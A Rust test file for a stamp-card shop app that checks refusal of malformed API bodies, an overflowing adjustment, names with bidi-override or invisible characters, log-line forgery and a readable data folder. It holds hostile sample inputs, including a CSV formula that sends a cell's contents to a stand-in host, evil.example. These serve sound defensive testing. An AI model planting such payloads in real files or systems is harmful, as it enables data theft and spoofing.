//! Input the shop must refuse, and what strangers must not slip into the
//! owner's files: JSON arrays for objects, an overflowing adjustment,
//! names that reorder or hide text, formulas in CSV exports, forged lines
//! in the server log, and a data folder other users can read.

use std::os::unix::fs::PermissionsExt;

use crate::Shop;

#[test]
fn api_bodies_must_be_json_objects() {
    let shop = Shop::demo();
    let server = shop.serve(&[]);
    let auth = format!("Bearer {}", shop.api_key("pos", "staff"));
    let json = [
        ("Authorization", auth.as_str()),
        ("Content-Type", "application/json"),
    ];
    let code = shop.card_code(100001);
    let before = shop.stamps(100001);
    for (path, body) in [
        ("/api/v1/stamps", format!(r#"["{code}", 3]"#)),
        (
            "/api/v1/cards",
            r#"[1, {"name": "Array Person"}, "pos"]"#.to_string(),
        ),
        ("/api/v1/stamps", "3".to_string()),
    ] {
        let r = server.request("POST", path, &json, Some(&body));
        assert_eq!(r.status, 422, "{path} {body}: {}", r.body);
        assert_eq!(r.json()["error"]["code"], "invalid_input", "{}", r.body);
    }
    assert_eq!(shop.stamps(100001), before, "nothing was stamped");
    // The object form still works.
    let ok = server.request(
        "POST",
        "/api/v1/stamps",
        &json,
        Some(&format!(r#"{{"code": "{code}", "count": 3}}"#)),
    );
    assert_eq!(ok.status, 200, "{}", ok.body);
    assert_eq!(shop.stamps(100001), before + 3);
    server.stop();
}

#[test]
fn adjustments_and_names_that_would_break_the_shop_are_refused() {
    let shop = Shop::demo();
    let before = shop.event_count();
    for args in [
        &[
            "adjust",
            "--reason",
            "t",
            "100003",
            "--",
            "-9223372036854775808",
        ][..],
        &["card", "issue", "--template", "1", "--name", "Tab\tName"][..],
        &[
            "card",
            "issue",
            "--template",
            "1",
            "--name",
            "evil\u{202E}gpj.exe",
        ][..],
        &[
            "card",
            "issue",
            "--template",
            "1",
            "--name",
            "\u{200B}\u{200B}",
        ][..],
        &[
            "staff",
            "add",
            "--name",
            "x\u{2066}y",
            "--role",
            "staff",
            "--pin",
            "9753",
        ][..],
    ] {
        let r = shop.run(args);
        assert_eq!(r.code, 2, "{args:?}: {}", r.stderr);
    }
    assert_eq!(shop.event_count(), before, "nothing was journaled");
    // Right-to-left scripts are welcome.
    shop.run(&["card", "issue", "--template", "1", "--name", "مريم"])
        .ok();
}

#[test]
fn csv_exports_neutralise_formulas_in_free_text() {
    let shop = Shop::demo();
    let server = shop.serve(&[]);
    let formula = r#"=HYPERLINK("http://evil.example/?"&B2,"Click")"#;
    let body = format!("name={}&phone=%2B49+170+5550199", url_encode(formula));
    let r = server.request(
        "POST",
        "/j/1",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        Some(&body),
    );
    assert_eq!(r.status, 303, "{}", r.body);
    server.stop();
    let csv = shop
        .run(&["export", "--format", "csv", "--table", "customers"])
        .ok()
        .stdout;
    let row = csv
        .lines()
        .find(|l| l.contains("HYPERLINK"))
        .unwrap_or_else(|| panic!("{csv}"));
    assert!(
        row.contains(r#""'=HYPERLINK("#),
        "the formula is text: {row}"
    );
    assert!(
        row.contains(",+491705550199,"),
        "a phone stays a phone: {row}"
    );
}

fn url_encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

#[test]
fn a_device_log_cannot_forge_or_flood_the_server_log() {
    let shop = Shop::demo();
    crate::wallet::configure(&shop, stampcard_e2e::test_pki::TEAM_ID);
    let server = shop.serve(&[("STAMPCARD_LOG", "warn")]);
    let forged = "boom\n2026-12-02T03:00:00Z  INFO stampcard: admin logged in";
    let many: Vec<String> = (0..100).map(|i| format!("line {i}")).collect();
    for logs in [vec![forged.to_string()], many.clone(), many] {
        let body = serde_json::json!({ "logs": logs }).to_string();
        let r = server.request(
            "POST",
            "/passkit/v1/log",
            &[("Content-Type", "application/json")],
            Some(&body),
        );
        assert_eq!(r.status, 200, "{}", r.body);
    }
    let mut lines = Vec::new();
    while let Some(line) = server.next_line_within(std::time::Duration::from_secs(2)) {
        lines.push(line);
    }
    assert!(
        !lines.iter().any(|l| l.starts_with("2026-12-02T03:00:00Z")),
        "a forged line: {lines:#?}"
    );
    let device = lines
        .iter()
        .filter(|l| l.contains("wallet device log"))
        .count();
    assert!(
        (2..=61).contains(&device),
        "{device} device lines: {lines:#?}"
    );
    server.stop();
}

#[test]
fn the_data_folder_is_private_whoever_made_it() {
    let shop = Shop::empty();
    std::fs::create_dir(shop.data()).expect("mkdir");
    std::fs::set_permissions(shop.data(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    shop.run(&["init", "--demo", "--timezone", "UTC", "--history-days", "0"])
        .ok();
    let backup = shop.data().join("shop.backup");
    shop.run(&["backup", backup.to_str().expect("path")]).ok();
    shop.run(&[
        "export",
        "--format",
        "csv",
        "--table",
        "cards",
        "-o",
        "cards.csv",
    ])
    .ok();
    let mode =
        |p: &std::path::Path| std::fs::metadata(p).expect("stat").permissions().mode() & 0o777;
    assert_eq!(mode(&shop.data()), 0o700);
    let mut files = vec![shop.path("cards.csv")];
    let mut dirs = vec![shop.data()];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).expect("read_dir").flatten() {
            let path = entry.path();
            if path.is_dir() {
                assert_eq!(mode(&path) & 0o077, 0, "{}", path.display());
                dirs.push(path);
            } else if !path.ends_with("stampcard.sock") {
                files.push(path);
            }
        }
    }
    for f in files {
        assert_eq!(mode(&f) & 0o077, 0, "{} is private", f.display());
    }
    // serve says so when someone opens it up again.
    std::fs::set_permissions(shop.data(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let server = shop.serve(&[("STAMPCARD_LOG", "warn")]);
    let warned = server
        .startup
        .iter()
        .any(|l| l.contains("readable by other users"));
    server.stop();
    assert!(warned, "serve warns about a readable data folder");
}
